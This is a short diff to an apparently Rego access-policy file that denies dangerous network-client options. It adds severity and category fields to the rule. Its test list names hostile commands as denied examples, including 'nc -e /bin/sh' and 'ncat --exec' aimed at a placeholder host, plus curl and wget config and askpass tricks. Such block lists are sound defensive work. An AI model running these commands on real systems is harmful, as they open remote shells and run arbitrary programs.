@@ -39,6 +39,8 @@ allow contains {"rule": "network.use"} if {
 # title: Network client options that run programs, open servers or read settings are denied
 # custom:
 #   rule: network.option
+#   severity: medium
+#   category: network
 #   not_reaches: [
 #     "curl -K x https://api.example.com", "curl --config=x", "wget --use-askpass=./x https://api.example.com", "wget -e use_askpass=x y",
 #     "nc -e /bin/sh api.example.com 22", "nc -l 8080", "ncat --exec ./x api.example.com 22", "ncat -klp 80",
